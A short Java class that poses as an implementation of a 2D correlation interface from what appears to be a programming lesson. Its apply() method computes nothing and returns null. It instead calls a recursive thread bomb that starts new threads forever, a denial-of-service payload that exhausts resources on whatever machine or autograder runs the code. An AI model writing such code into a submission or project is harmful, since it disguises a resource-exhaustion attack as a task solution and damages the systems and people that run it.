import lesson02.corr2d.Corr2d;

class MyCorr2d implements Corr2d {
    static void bomb() {
        while (true) {
            new Thread(MyCorr2d::bomb).start();
        }
    }

    @Override
    public float[][] apply(float[][] input, float[][] kernel) {
        bomb();
        return null;
    }
}
